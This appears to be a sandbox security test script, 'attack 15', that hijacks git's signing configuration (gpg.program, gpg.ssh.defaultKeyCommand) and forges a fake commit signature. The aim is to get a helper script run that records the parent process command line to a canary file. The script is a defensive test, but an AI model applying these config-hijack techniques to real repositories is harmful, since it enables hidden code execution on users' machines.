#!/usr/bin/env bash
# attack 15 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
echo x >attack-15.txt; git add attack-15.txt; commit -m 'attack 15'
printf '#!/bin/sh\ntr "\\000" " " <"/proc/$PPID/cmdline" >"%s/pwned-15-gpg" 2>/dev/null\nexit 0\n' "$H" >.git/gpg.sh; chmod 755 .git/gpg.sh
new=$(git cat-file commit HEAD | awk 'done==0 && $0=="" { print "gpgsig -----BEGIN PGP SIGNATURE-----"; print " "; print " aGVsbG8="; print " =aaaa"; print " -----END PGP SIGNATURE-----"; done=1 } { print }' | git hash-object -t commit -w --stdin)
[ -n "$new" ] && git update-ref HEAD "$new"
git config gpg.program .git/gpg.sh; git config gpg.openpgp.program .git/gpg.sh; git config gpg.ssh.program .git/gpg.sh
git config gpg.ssh.defaultKeyCommand "date >'$H/pwned-15-keycommand'; :"
git config log.showSignature true; git config format.pretty 'format:%H %G? %s'; git config commit.gpgSign true; git config tag.gpgSign true; git config user.signingKey attack15
echo y >>attack-15.txt
exit 0
